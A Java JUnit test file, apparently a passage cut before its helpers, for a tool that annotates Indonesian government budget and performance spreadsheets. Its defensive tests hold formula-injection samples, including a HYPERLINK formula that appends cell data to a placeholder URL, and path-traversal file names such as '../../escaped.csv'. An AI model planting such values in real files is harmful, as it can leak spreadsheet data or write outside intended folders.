package id.saring.report;

import static org.assertj.core.api.Assertions.assertThat;

import id.saring.cli.Main;
import id.saring.model.Category;
import id.saring.model.Finding;
import id.saring.model.Location;
import id.saring.model.Message;
import id.saring.model.Severity;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.PrintStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.hssf.usermodel.HSSFCellStyle;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.ClientAnchor;
import org.apache.poi.ss.usermodel.Comment;
import org.apache.poi.ss.usermodel.FillPatternType;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.ss.usermodel.WorkbookFactory;
import org.apache.poi.ss.util.CellReference;
import org.apache.poi.xssf.usermodel.XSSFCellStyle;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code annotated/<input>}: the copies a run over {@code input-samples/} writes, opened with POI, and copies written
 * from run results made by hand for what the samples do not hold (a formula in a CSV, an agency's own comment, an
 * input gone before the copy is made).
 */
class AnnotatedCopiesTest {

    private static final Path SAMPLES = Path.of("input-samples");
    private static final String IKU = "pemkab-muara-enim/iku-2023.xlsx";
    private static final String EFISIENSI_CSV = "pemkab-muara-enim/efisiensi-anggaran-sasaran-4-2023.csv";
    private static final String RED = "FFFF8080";
    private static final String AMBER = "FFFFCC00";
    private static final String G14_COMMENT = "predicate-mismatch: Predikat tertulis Baik di sel G14, padahal capaian"
            + " tertulis 100 termasuk Sangat Baik (≥ 100) pada skala capaian-kab-muara-enim.";

    @TempDir
    static Path out;
    private static String ikuDigestBefore;
    private static FileTime ikuTimeBefore;

    @TempDir
    Path temp;

    private final MessageCatalog indonesian = new MessageCatalog(Language.ID);

    @BeforeAll
    static void runOnTheSamples() throws Exception {
        ikuDigestBefore = sha256(SAMPLES.resolve(IKU));
        ikuTimeBefore = Files.getLastModifiedTime(SAMPLES.resolve(IKU));
        Main.run(new String[] {"run", SAMPLES.toString(), "--out", out.toString()},
                new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8),
                new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8));
    }

    // ------------------------------------------------------------------------------------- xlsx, kept as it is

    @Test
    void errorCellsOfAnXlsxCopyAreFilledRedAndWarningCellsAmber() throws IOException {
        try (Workbook copy = open(out.resolve("annotated").resolve(IKU))) {
            Sheet sheet = copy.getSheet("IKU 2023");
            assertThat(fill(cell(sheet, "G14"))).isEqualTo(RED); // predicate-mismatch, error
            assertThat(fill(cell(sheet, "E20"))).isEqualTo(AMBER); // missing-value, warning
            assertThat(cell(sheet, "G14").getCellStyle().getFillPattern()).isEqualTo(FillPatternType.SOLID_FOREGROUND);
        }
    }

    @Test
    void anOffendingCellCarriesItsFindingAsCategoryAndMessage() throws IOException {
        try (Workbook copy = open(out.resolve("annotated").resolve(IKU))) {
            Comment comment = cell(copy.getSheet("IKU 2023"), "G14").getCellComment();
            assertThat(comment.getString().getString()).isEqualTo(G14_COMMENT);
            assertThat(comment.getAuthor()).isEqualTo("saring");
            assertThat(comment.getAddress().formatAsString()).isEqualTo("G14");
            ClientAnchor box = comment.getClientAnchor();
            assertThat(List.of((int) box.getCol1(), box.getRow1(), (int) box.getCol2(), box.getRow2()))
                    .as("four columns wide, right of G14, a row for each of its four lines of text and one more")
                    .containsExactly(7, 13, 11, 18);
        }
    }

    @Test
    void cellsKeepTheirValuesAndFormatsAndUntouchedCellsTheirStyle() throws IOException {
        try (Workbook input = open(SAMPLES.resolve(IKU));
                Workbook copy = open(out.resolve("annotated").resolve(IKU))) {
            Sheet before = input.getSheet("IKU 2023");
            Sheet after = copy.getSheet("IKU 2023");
            // D7 12,02 has no finding: the very same style, value and no comment
            assertThat(cell(after, "D7").getCellStyle().getIndex()).isEqualTo(cell(before, "D7").getCellStyle().getIndex());
            assertThat(cell(after, "D7").getNumericCellValue()).isEqualTo(12.02);
            assertThat(cell(after, "D7").getCellStyle().getDataFormatString()).isEqualTo("0.00");
            assertThat(cell(after, "D7").getCellStyle().getFillPattern()).isEqualTo(FillPatternType.NO_FILL);
            assertThat(cell(after, "D7").getCellComment()).isNull();
            // D5 69,55 is filled and keeps its number and number format
            assertThat(cell(after, "D5").getNumericCellValue()).isEqualTo(69.55);
            assertThat(cell(after, "D5").getCellStyle().getDataFormatString()).isEqualTo("0.00");
            assertThat(cell(after, "G14").getStringCellValue()).isEqualTo("Baik");
            assertThat(cell(after, "G14").getCellStyle().getFontIndex())
                    .isEqualTo(cell(before, "G14").getCellStyle().getFontIndex());
            assertThat(after.getRow(0).getCell(0).getStringCellValue())
                    .isEqualTo("Tabel Hasil Pengukuran Kinerja Pemerintah Kabupaten Muara Enim");
        }
    }

    @Test
    void cellsOfOneStyleAndSeverityShareOneClonedStyle() throws IOException {
        try (Workbook input = open(SAMPLES.resolve(IKU));
                Workbook copy = open(out.resolve("annotated").resolve(IKU))) {
            Sheet sheet = copy.getSheet("IKU 2023");
            short g14 = cell(sheet, "G14").getCellStyle().getIndex();
            for (String ref : List.of("G15", "G16", "G17", "G21", "G22", "G24")) {
                assertThat(cell(sheet, ref).getCellStyle().getIndex()).as(ref).isEqualTo(g14);
            }
            // 13 marked cells, four pairs of original style and severity: text and 0.00 as errors, text as a
            // warning, 0.000 (Gini 0,313) as an error
            assertThat(input.getNumCellStyles()).isEqualTo(7);
            assertThat(copy.getNumCellStyles()).isEqualTo(11);
        }
    }

    @Test
    void theInputKeepsItsBytesAndModificationTime() throws Exception {
        assertThat(sha256(SAMPLES.resolve(IKU))).isEqualTo(ikuDigestBefore);
        assertThat(Files.getLastModifiedTime(SAMPLES.resolve(IKU))).isEqualTo(ikuTimeBefore);
    }

    @Test
    void aFindingAboutAWholeRowMarksTheRowsFirstCellWithContent() throws IOException {
        try (Workbook copy = open(out.resolve("annotated/kecamatan-sumber-harta/kinerja-anggaran-2023.xlsx"))) {
            Sheet sheet = copy.getSheet("Realisasi Keuangan");
            // row 13 starts in B: its indicator sits one column left of its header
            assertThat(sheet.getRow(12).getCell(0)).isNull();
            assertThat(cell(sheet, "B13").getCellComment().getString().getString()).isEqualTo("shifted-row: Baris 13"
                    + " tampaknya bergeser satu kolom ke kiri dari judul kolomnya; isinya dibaca seolah berada satu"
                    + " kolom ke kanan.");
            assertThat(fill(cell(sheet, "B13"))).isEqualTo(AMBER);
        }
    }

    @Test
    void aFindingAboutASheetIsOnItsFirstCell() throws IOException {
        try (Workbook copy = open(out.resolve("annotated/pemkab-muara-enim/kinerja-makro-2023.xlsx"))) {
            Cell a1 = cell(copy.getSheet("IPM"), "A1");
            assertThat(a1.getCellComment().getString().getString()).isEqualTo("no-table: Lembar IPM memuat 8 baris"
                    + " berisi angka, tetapi tidak ada tabel capaian kinerja atau tabel anggaran yang dikenali di"
                    + " dalamnya, sehingga isinya tidak diperiksa. Tabel dikenali dari baris judul kolomnya, misalnya"
                    + " Indikator, Target, Realisasi, Capaian atau Uraian, Pagu, Realisasi.");
            assertThat(fill(a1)).isEqualTo(AMBER);
        }
    }

    // ------------------------------------------------------------------------------------------ xls and csv

    @Test
    void anXlsInputIsAnnotatedInItsOwnFormat() throws IOException {
        Path copy = out.resolve("annotated/kecamatan-sumber-harta/realisasi-anggaran-kegiatan-2023.xls");
        try (Workbook workbook = open(copy)) {
            assertThat(workbook).isInstanceOf(HSSFWorkbook.class);
            Cell e8 = cell(workbook.getSheet("Realisasi Anggaran"), "E8");
            assertThat(e8.getCellComment().getString().getString()).isEqualTo("absorption-mismatch: Serapan anggaran"
                    + " tertulis 94,99% di sel E8, padahal realisasi 1.412.731.573 / pagu 1.488.622.040 × 100 = 94,90%.");
            assertThat(e8.getCellStyle().getFillPattern()).isEqualTo(FillPatternType.SOLID_FOREGROUND);
            assertThat(((HSSFWorkbook) workbook).getCustomPalette()
                    .getColor(((HSSFCellStyle) e8.getCellStyle()).getFillForegroundColor()).getTriplet())
                    .containsExactly(255, 128, 128);
            assertThat(e8.getCellStyle().getDataFormatString()).isEqualTo("0.00%");
        }
    }

    @Test
    void anHtmlTableSavedAsXlsGetsAnXlsxCopyWithTheFindingsCells() throws IOException {
        Path copy = out.resolve("annotated/pemkab-muara-enim/analisis-capaian-sasaran-2023.xls.xlsx");
        try (Workbook workbook = open(copy)) {
            assertThat(workbook.getNumberOfSheets()).isEqualTo(1);
            Sheet sheet = workbook.getSheet("analisis-capaian-sasaran-2023");
            assertThat(cell(sheet, "F5").getStringCellValue()).isEqualTo("69,55");
            assertThat(cell(sheet, "F5").getCellComment().getString().getString()).isEqualTo("conflicting-value:"
                    + " Target Indeks Pembangunan Manusia tahun 2023 tertulis 69,55 di sel F5, tetapi tertulis 72,44 di"
                    + " pemkab-muara-enim/program-pembangunan-daerah-2018-2023.tsv (sel E5). Periksa angka mana yang"
                    + " benar, lalu samakan semuanya.");
            assertThat(fill(cell(sheet, "F5"))).isEqualTo(RED);
        }
    }

    @Test
    void aCsvInputGetsAnXlsxCopyWithASheetNamedAfterTheFile() throws IOException {
        Path copy = out.resolve("annotated").resolve(EFISIENSI_CSV + ".xlsx");
        try (Workbook workbook = open(copy)) {
            assertThat(workbook).isInstanceOf(XSSFWorkbook.class);
            assertThat(workbook.getNumberOfSheets()).isEqualTo(1);
            // efisiensi-anggaran-sasaran-4-2023 cut to Excel's 31 characters
            assertThat(workbook.getSheetName(0)).isEqualTo("efisiensi-anggaran-sasaran-4-20");
            Cell k9 = cell(workbook.getSheetAt(0), "K9");
            assertThat(k9.getStringCellValue()).isEqualTo("90");
            assertThat(k9.getCellComment().getString().getString()).isEqualTo("absorption-mismatch: Serapan anggaran"
                    + " tertulis 90 di sel K9, padahal realisasi 4.660.490.628 / pagu 4.941.608.800 × 100 = 94,31%.");
            assertThat(fill(k9)).isEqualTo(RED);
            assertThat(cell(workbook.getSheetAt(0), "J9").getCellComment()).isNull();
        }
    }

    @Test
    void anOdsCopyKeepsItsNumbersAsNumbersWithTheirFormats() throws IOException {
        try (Workbook workbook = open(out.resolve("annotated/kecamatan-sumber-harta/iku-renstra-2023.ods.xlsx"))) {
            Cell f7 = cell(workbook.getSheet("IKU Renstra"), "F7");
            // the percentage cell 0.9405, shown 94,05 %
            assertThat(f7.getNumericCellValue()).isEqualTo(0.9405);
            assertThat(f7.getCellStyle().getDataFormatString()).isEqualTo("0.00%");
            assertThat(fill(f7)).isEqualTo(RED);
            assertThat(f7.getCellComment().getString().getString()).startsWith("capaian-mismatch: Capaian tertulis"
                    + " 94,05% di sel F7");
        }
    }

    @Test
    void anInfoFindingGetsItsCommentButNoFill() throws IOException {
        try (Workbook workbook = open(out.resolve("annotated/setda-bengkulu-selatan/iku-2023.csv.xlsx"))) {
            Cell g7 = cell(workbook.getSheet("iku-2023"), "G7");
            assertThat(g7.getCellComment().getString().getString()).isEqualTo("not-computable: Capaian tertulis 172"
                    + " di sel G7 tidak dapat diperiksa, karena capaian tidak dapat dihitung ulang dari target CC dan"
                    + " realisasi A (86,45): predikat CC tidak disertai skor, dan tidak ada skala yang memberinya nilai"
                    + " angka.");
            assertThat(g7.getCellStyle().getFillPattern()).isEqualTo(FillPatternType.NO_FILL);
        }
    }

    @Test
    void aFindingAboutAWholeCsvFileIsOnA1() throws IOException {
        try (Workbook workbook = open(out.resolve("annotated/pemkab-muara-enim/laju-pertumbuhan-ekonomi-2023.csv.xlsx"))) {
            Cell a1 = cell(workbook.getSheet("laju-pertumbuhan-ekonomi-2023"), "A1");
            assertThat(a1.getCellComment().getString().getString()).startsWith("no-table: Berkas ini tidak memuat");
            assertThat(fill(a1)).isEqualTo(AMBER);
        }
    }

    @Test
    void csvTextThatCouldRunAsAFormulaIsWrittenAsQuotePrefixedText() throws IOException {
        Path csv = Files.writeString(temp.resolve("rekening.csv"),
                "Uraian;Pagu;Realisasi\r\n=1+1;100;-5\r\n@SUM(A1:A2);- Belanja;=HYPERLINK(\"http://x.example\")\r\n",
                StandardCharsets.UTF_8);
        Map<String, AnnotatedCopy> copies = write(result(List.of(readable("rekening.csv", csv)), List.of()));

        assertThat(copies.get("rekening.csv").path()).isEqualTo("annotated/rekening.csv.xlsx");
        try (Workbook workbook = open(out(copies.get("rekening.csv")))) {
            Sheet sheet = workbook.getSheet("rekening");
            for (String ref : List.of("A2", "A3", "B3", "C3")) {
                Cell cell = cell(sheet, ref);
                assertThat(cell.getCellType()).as(ref).isEqualTo(CellType.STRING);
                assertThat(cell.getCellStyle().getQuotePrefixed()).as(ref).isTrue();
            }
            assertThat(cell(sheet, "A2").getStringCellValue()).isEqualTo("=1+1");
            assertThat(cell(sheet, "C3").getStringCellValue()).isEqualTo("=HYPERLINK(\"http://x.example\")");
            // a negative number cannot run
            assertThat(cell(sheet, "C2").getStringCellValue()).isEqualTo("-5");
            assertThat(cell(sheet, "C2").getCellStyle().getQuotePrefixed()).isFalse();
        }
    }

    @Test
    void workbookTextThatCouldRunAsAFormulaIsQuotePrefixedInTheCopyWithItsFormatKept() throws IOException {
        Path xlsx = temp.resolve("uraian.xlsx");
        try (org.apache.poi.xssf.usermodel.XSSFWorkbook book = new org.apache.poi.xssf.usermodel.XSSFWorkbook()) {
            Sheet sheet = book.createSheet("Anggaran");
            org.apache.poi.ss.usermodel.CellStyle bold = book.createCellStyle();
            org.apache.poi.ss.usermodel.Font font = book.createFont();
            font.setBold(true);
            bold.setFont(font);
            org.apache.poi.ss.usermodel.Row row = sheet.createRow(0);
            row.createCell(0).setCellValue("=HYPERLINK(\"http://x.example/?d=\"&B1,\"klik\")");
            row.getCell(0).setCellStyle(bold);
            row.createCell(1).setCellValue("- Belanja Pegawai");
            row.createCell(2).setCellValue("Belanja Modal");
            try (java.io.OutputStream stream = Files.newOutputStream(xlsx)) {
                book.write(stream);
            }
        }
        Map<String, AnnotatedCopy> copies = write(result(List.of(readable("uraian.xlsx", xlsx)), List.of()));

        try (Workbook workbook = open(out(copies.get("uraian.xlsx")))) {
            Sheet sheet = workbook.getSheet("Anggaran");
            Cell hyperlink = cell(sheet, "A1");
            assertThat(hyperlink.getCellType()).isEqualTo(CellType.STRING);
            assertThat(hyperlink.getStringCellValue()).isEqualTo("=HYPERLINK(\"http://x.example/?d=\"&B1,\"klik\")");
            assertThat(hyperlink.getCellStyle().getQuotePrefixed()).isTrue();
            assertThat(workbook.getFontAt(hyperlink.getCellStyle().getFontIndex()).getBold()).isTrue();
            assertThat(cell(sheet, "B1").getCellStyle().getQuotePrefixed()).isTrue();
            assertThat(cell(sheet, "C1").getCellStyle().getQuotePrefixed()).isFalse();
        }
    }

    // ------------------------------------------------------------------------------ run results made by hand

    @Test
    void linksPointAtTheFindingsCellInTheCopy() throws IOException {
        Finding g14 = finding(IKU, "IKU 2023", 14, 6, Severity.ERROR);
        Finding k9 = finding(EFISIENSI_CSV, "", 9, 10, Severity.ERROR);
        Map<String, AnnotatedCopy> copies = write(result(List.of(sample(IKU), sample(EFISIENSI_CSV)), List.of(g14, k9)));

        assertThat(copies.keySet()).containsExactly(IKU, EFISIENSI_CSV);
        assertThat(copies.get(IKU).link(g14.location())).isEqualTo("annotated/" + IKU + "#'IKU 2023'!G14");
        assertThat(copies.get(EFISIENSI_CSV).link(k9.location()))
                .isEqualTo("annotated/" + EFISIENSI_CSV + ".xlsx#'efisiensi-anggaran-sasaran-4-20'!K9");
        assertThat(copies.get(EFISIENSI_CSV).sheets()).containsExactly(Map.entry("", "efisiensi-anggaran-sasaran-4-20"));
        try (Workbook workbook = open(out(copies.get(EFISIENSI_CSV)))) {
            assertThat(cell(workbook.getSheet("efisiensi-anggaran-sasaran-4-20"), "K9").getCellComment()).isNotNull();
        }
    }

    @Test
    void aFindingAboutAWholeWorkbookLinksToItsFirstSheet() throws IOException {
        String makro = "pemkab-muara-enim/kinerja-makro-2023.xlsx";
        Map<String, AnnotatedCopy> copies = write(result(List.of(sample(makro)), List.of()));

        assertThat(copies.get(makro).sheets()).containsExactly(Map.entry("Kinerja Makro", "Kinerja Makro"),
                Map.entry("IPM", "IPM"));
        assertThat(copies.get(makro).link(Location.ofFile(makro))).isEqualTo("annotated/" + makro + "#'Kinerja Makro'!A1");
    }

    @Test
    void allFindingsOfACellShareOneCommentInTheChosenLanguage() throws IOException {
        Finding error = finding(IKU, "IKU 2023", 14, 6, Severity.ERROR);
        Finding warning = new Finding(new Location(IKU, "IKU 2023", 14, 6), Category.AMBIGUOUS_NUMBER,
                "number.ambiguous", Severity.WARNING, Message.of("severity.warning"), "Baik", "");
        AnnotatedCopies english = new AnnotatedCopies(new MessageCatalog(Language.EN), "test", 2);
        Map<String, AnnotatedCopy> copies;
        try (AtomicOutput output = new AtomicOutput(temp.resolve("out"))) {
            copies = english.write(result(List.of(sample(IKU)), List.of(warning, error)), output,
                    KeptCopies.in(temp.resolve("out")));
            output.commit();
        }

        try (Workbook workbook = open(out(copies.get(IKU)))) {
            Cell g14 = cell(workbook.getSheet("IKU 2023"), "G14");
            assertThat(g14.getCellComment().getString().getString()).isEqualTo("ambiguous-number: warning\n"
                    + "predicate-mismatch: The predikat stated in cell G14 is Baik, but the stated capaian 100 falls in"
                    + " Sangat Baik (≥ 100) on the scale capaian-kab-muara-enim.");
            assertThat(fill(g14)).as("the most severe finding's colour").isEqualTo(RED);
        }
    }

    @Test
    void aCommentTheAgencyWroteIsKeptBelowTheFindings() throws IOException {
        Path workbook = temp.resolve("catatan.xlsx");
        try (XSSFWorkbook wb = new XSSFWorkbook(); OutputStream stream = Files.newOutputStream(workbook)) {
            Sheet sheet = wb.createSheet("Data");
            sheet.createRow(1).createCell(1).setCellValue(95);
            sheet.getRow(1).createCell(2).setCellValue("catatan");
            // comments on B2 and on C2, where B2's new comment box would start
            for (int column : new int[] {1, 2}) {
                ClientAnchor anchor = wb.getCreationHelper().createClientAnchor();
                anchor.setCol1(column + 1);
                anchor.setRow1(3);
                anchor.setCol2(column + 3);
                anchor.setRow2(6);
                Comment comment = sheet.createDrawingPatriarch().createCellComment(anchor);
                comment.setString(wb.getCreationHelper().createRichTextString("Catatan bendahara " + column));
                sheet.getRow(1).getCell(column).setCellComment(comment);
            }
            wb.write(stream);
        }
        Finding b2 = finding("catatan.xlsx", "Data", 2, 1, Severity.WARNING);
        Map<String, AnnotatedCopy> copies = write(result(List.of(readable("catatan.xlsx", workbook)), List.of(b2)));

        try (Workbook copy = open(out(copies.get("catatan.xlsx")))) {
            Sheet sheet = copy.getSheet("Data");
            assertThat(cell(sheet, "B2").getCellComment().getString().getString()).isEqualTo(
                    "predicate-mismatch: Predikat tertulis Baik di sel G14, padahal capaian tertulis 100 termasuk Sangat"
                            + " Baik (≥ 100) pada skala capaian-kab-muara-enim.\n\n"
                            + "Komentar yang sudah ada di sel ini:\nCatatan bendahara 1");
            assertThat(cell(sheet, "C2").getCellComment().getString().getString()).isEqualTo("Catatan bendahara 2");
            assertThat(cell(sheet, "B2").getNumericCellValue()).isEqualTo(95);
        }
    }

    @Test
    void anXlsxTooBigToOpenInMemoryThatMayHoldFormulaTextIsRebuiltCellByCell() throws IOException {
        Path big = bigIku();
        assertThat(AnnotatedCopies.fitsInMemory(big)).isFalse();
        assertThat(AnnotatedCopies.fitsInMemory(SAMPLES.resolve(IKU))).isTrue();
        Finding g14 = finding("iku-besar.xlsx", "IKU 2023", 14, 6, Severity.ERROR);

        // a run that could not tell whether a text cell could run as a formula: a patch would not guard it
        Map<String, AnnotatedCopy> copies = write(result(List.of(readable("iku-besar.xlsx", big)), List.of(g14)));

        assertThat(copies.get("iku-besar.xlsx").path()).isEqualTo("annotated/iku-besar.xlsx.xlsx");
        try (Workbook copy = open(out(copies.get("iku-besar.xlsx")))) {
            Sheet sheet = copy.getSheet("IKU 2023");
            assertThat(cell(sheet, "G14").getStringCellValue()).isEqualTo("Baik");
            assertThat(cell(sheet, "G14").getCellComment().getString().getString()).isEqualTo(G14_COMMENT);
            assertThat(fill(cell(sheet, "G14"))).isEqualTo(RED);
            // a number with a plain format stays a number with that format
            assertThat(cell(sheet, "D7").getNumericCellValue()).isEqualTo(12.02);
            assertThat(cell(sheet, "D7").getCellStyle().getDataFormatString()).isEqualTo("0.00");
        }
    }

    @Test
    void anXlsxTooBigToOpenInMemoryIsPatchedAsItStreamsByWithItsFormattingKept() throws IOException {
        Path big = bigIku();
        Finding g14 = finding("iku-besar.xlsx", "IKU 2023", 14, 6, Severity.ERROR);

        Map<String, AnnotatedCopy> copies = write(result(List.of(clean("iku-besar.xlsx", big)), List.of(g14)));

        assertThat(copies.get("iku-besar.xlsx").path()).isEqualTo("annotated/iku-besar.xlsx");
        try (Workbook input = open(big); Workbook copy = open(out(copies.get("iku-besar.xlsx")))) {
            Sheet before = input.getSheet("IKU 2023");
            Sheet sheet = copy.getSheet("IKU 2023");
            assertThat(cell(sheet, "G14").getCellComment().getString().getString()).isEqualTo(G14_COMMENT);
            assertThat(fill(cell(sheet, "G14"))).isEqualTo(RED);
            assertThat(cell(sheet, "G14").getCellStyle().getFontIndex())
                    .isEqualTo(cell(before, "G14").getCellStyle().getFontIndex());
            assertThat(cell(sheet, "D7").getCellStyle().getIndex()).isEqualTo(cell(before, "D7").getCellStyle().getIndex());
            assertThat(sheet.getMergedRegions()).isEqualTo(before.getMergedRegions());
        }
        try (ZipFile original = new ZipFile(big.toFile());
                ZipFile copied = new ZipFile(out(copies.get("iku-besar.xlsx")).toFile())) {
            assertThat(copied.getInputStream(copied.getEntry("customXml/padding.xml")).readAllBytes())
                    .isEqualTo(original.getInputStream(original.getEntry("customXml/padding.xml")).readAllBytes());
        }
    }

    /**
     * The IKU workbook with 17 MiB of padding in a part no reader looks at: small on disk, big unpacked. The padding
     * packs like data (a letter at random among dots), not a thousand times as blanks do, which is a zip bomb.
     */
    private Path bigIku() throws IOException {
        Path big = temp.resolve("iku-besar.xlsx");
        try (ZipOutputStream zip = ikuParts(big, (name, part) -> part)) {
            zip.putNextEntry(new ZipEntry("customXml/padding.xml"));
            Random random = new Random(17);
            byte[] padding = new byte[17 << 20];
            for (int i = 0; i < padding.length; i++) {
                padding[i] = (byte) (random.nextInt(64) == 0 ? 'a' + random.nextInt(26) : '.');
            }
            zip.write(padding);
        }
        return big;
    }

    @Test
    void theSampleWithoutFindingsIsCopiedByteForByteByTheRun() throws IOException {
        // the one xlsx of the samples with no finding: the run's reading found no text that could run as a formula
        Path copy = out.resolve("annotated/pemkab-muara-enim/spm-pendidikan-2023.xlsx");

        assertThat(Files.mismatch(copy, SAMPLES.resolve("pemkab-muara-enim/spm-pendidikan-2023.xlsx"))).isEqualTo(-1L);
    }

    @Test
    void anXlsxWithoutFindingsIsCopiedByteForByteUnderItsName() throws IOException {
        // nothing to mark: the copy is the agency's own file, every byte of it, whatever POI would have rewritten
        Map<String, AnnotatedCopy> copies = write(result(List.of(clean(IKU, SAMPLES.resolve(IKU))), List.of()));

        AnnotatedCopy copy = copies.get(IKU);
        assertThat(copy.path()).isEqualTo("annotated/pemkab-muara-enim/iku-2023.xlsx");
        assertThat(Files.mismatch(out(copy), SAMPLES.resolve(IKU))).isEqualTo(-1L);
        assertThat(copy.sheets()).as("no finding links into it").isEmpty();
    }

    @Test
    void anXlsxWithoutFindingsTooBigToHoldInMemoryIsCopiedAsItIsWithItsFormatting() throws IOException {
        // 5 MiB of random bytes in a part no reader looks at: past what a copy is made of in memory, copied from
        // the input as it is written, where one with findings would be rebuilt cell by cell without its formatting
        Path big = temp.resolve("iku-berat.xlsx");
        try (ZipOutputStream zip = ikuParts(big, (name, part) -> part)) {
            zip.putNextEntry(new ZipEntry("customXml/item1.bin"));
            byte[] noise = new byte[5 << 20];
            new Random(5).nextBytes(noise);
            zip.write(noise);
        }
        assertThat(Files.size(big)).isGreaterThan(AnnotatedCopies.MAX_REBUILT_IN_MEMORY);

        Map<String, AnnotatedCopy> copies = write(result(List.of(clean("iku-berat.xlsx", big)), List.of()));

        assertThat(copies.get("iku-berat.xlsx").path()).isEqualTo("annotated/iku-berat.xlsx");
        assertThat(Files.mismatch(out(copies.get("iku-berat.xlsx")), big)).isEqualTo(-1L);
    }

    @Test
    void aMacroEnabledWorkbookNamedXlsxWithoutFindingsIsCopiedAsItIsUnderAnXlsmName() throws IOException {
        // what POI names such a copy (WorkbookCopy.copyName), so that Excel opens it without complaint
        Path macro = temp.resolve("makro.xlsx");
        ikuParts(macro, (name, part) -> !name.equals("[Content_Types].xml") ? part
                : new String(part, StandardCharsets.UTF_8).replace(
                        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                        "application/vnd.ms-excel.sheet.macroEnabled.main+xml").getBytes(StandardCharsets.UTF_8))
                .close();

        Map<String, AnnotatedCopy> copies = write(result(List.of(clean("makro.xlsx", macro)), List.of()));

        assertThat(copies.get("makro.xlsx").path()).isEqualTo("annotated/makro.xlsx.xlsm");
        assertThat(Files.mismatch(out(copies.get("makro.xlsx")), macro)).isEqualTo(-1L);
    }

    @Test
    void anInputGoneOrChangedSinceTheRunGetsNoCopyAndTheOthersStillDo() throws IOException {
        Path gone = Files.copy(SAMPLES.resolve(IKU), temp.resolve("hilang.xlsx"));
        Path changed = Files.copy(SAMPLES.resolve(EFISIENSI_CSV), temp.resolve("berubah.csv"));
        Path kept = Files.copy(SAMPLES.resolve("kecamatan-sumber-harta/iku-2023.csv"), temp.resolve("tetap.csv"));
        RunResult run = result(List.of(readable("hilang.xlsx", gone), readable("berubah.csv", changed),
                readable("tetap.csv", kept)), List.of(finding("hilang.xlsx", "IKU 2023", 14, 6, Severity.ERROR),
                        finding("berubah.csv", "", 9, 10, Severity.ERROR), finding("tetap.csv", "", 5, 5,
                                Severity.ERROR)));
        Files.delete(gone);
        Files.writeString(changed, "Uraian;Pagu\r\nbaru;1\r\n", StandardCharsets.UTF_8);

        Map<String, AnnotatedCopy> copies = write(run);

        assertThat(copies.keySet()).containsExactly("tetap.csv");
        assertThat(out(copies.get("tetap.csv"))).exists();
        assertThat(temp.resolve("out/annotated/berubah.csv.xlsx")).doesNotExist();
        assertThat(temp.resolve("out/annotated/hilang.xlsx")).doesNotExist();
    }

    @Test
    void anUnreadableInputGetsNoCopy() throws IOException {
        String broken = "kecamatan-sumber-harta/lkjip-2023-lampiran.xlsx";
        RunResult run = result(List.of(new InputStatus(broken, SAMPLES.resolve(broken), "", false, 0)), List.of());

        assertThat(write(run)).isEmpty();
        assertThat(temp.resolve("out/annotated")).doesNotExist();
        assertThat(out.resolve("annotated").resolve(broken)).doesNotExist();
        assertThat(out.resolve("annotated").resolve(broken + ".xlsx")).doesNotExist();
    }

    @Test
    void anInputNameWithDotDotOrARootCannotPlaceItsCopyOutsideTheOutputFolder() throws IOException {
        Path csv = SAMPLES.resolve("kecamatan-sumber-harta/iku-2023.csv");
        Map<String, AnnotatedCopy> copies = write(result(List.of(readable("../../escaped.csv", csv),
                readable("/tmp/absolute.csv", csv), readable("CON.csv", csv)), List.of()));

        assertThat(copies.values()).extracting(AnnotatedCopy::path).containsExactly("annotated/_/_/escaped.csv.xlsx",
                "annotated/tmp/absolute.csv.xlsx", "annotated/_CON.csv.xlsx");
        for (AnnotatedCopy copy : copies.values()) {
            assertThat(out(copy).normalize()).startsWith(temp.resolve("out/annotated")).isRegularFile();
        }
        assertThat(temp.resolve("escaped.csv.xlsx")).doesNotExist();
        assertThat(temp.resolve("out/escaped.csv.xlsx")).doesNotExist();
    }

    @Test
    void twoInputsWhoseCopiesWouldShareAPathGetOneEach() throws IOException {
        // x.csv is rebuilt as x.csv.xlsx, which is also the name of the workbook beside it
        Path csv = SAMPLES.resolve("kecamatan-sumber-harta/iku-2023.csv");
        Path xlsx = SAMPLES.resolve("kecamatan-sumber-harta/kinerja-anggaran-2023.xlsx");
        Map<String, AnnotatedCopy> copies = write(result(List.of(readable("dinas/x.csv", csv),
                readable("dinas/x.csv.xlsx", xlsx)), List.of()));

        assertThat(copies.values()).extracting(AnnotatedCopy::path).containsExactly("annotated/dinas/x.csv.xlsx",
                "annotated/dinas/x (2).csv.xlsx");
    }

    @Test
    void aCopyMadeFromTheSameContentAndFindingsIsKeptNotMadeAgain() throws Exception {
        Finding error = finding(IKU, "IKU 2023", 14, 6, Severity.ERROR);
        RunResult run = result(List.of(sample(IKU)), List.of(error));
        Path out = temp.resolve("out");
        Map<String, AnnotatedCopy> first = writeKept(run);
        Path copy = out.resolve(first.get(IKU).path());
        Object made = Files.readAttributes(copy, java.nio.file.attribute.BasicFileAttributes.class).fileKey();

        Map<String, AnnotatedCopy> again = writeKept(run);
        assertThat(again).isEqualTo(first);
        assertThat(Files.readAttributes(copy, java.nio.file.attribute.BasicFileAttributes.class).fileKey())
                .as("the same file, not renamed over").isEqualTo(made);

        Finding other = finding(IKU, "IKU 2023", 20, 4, Severity.WARNING);
        writeKept(result(List.of(sample(IKU)), List.of(error, other)));
        assertThat(Files.readAttributes(copy, java.nio.file.attribute.BasicFileAttributes.class).fileKey())
                .as("another finding: made again").isNotEqualTo(made);
        try (Workbook workbook = open(copy)) {
            assertThat(fill(cell(workbook.getSheet("IKU 2023"), "E20"))).isEqualTo(AMBER);
        }
    }

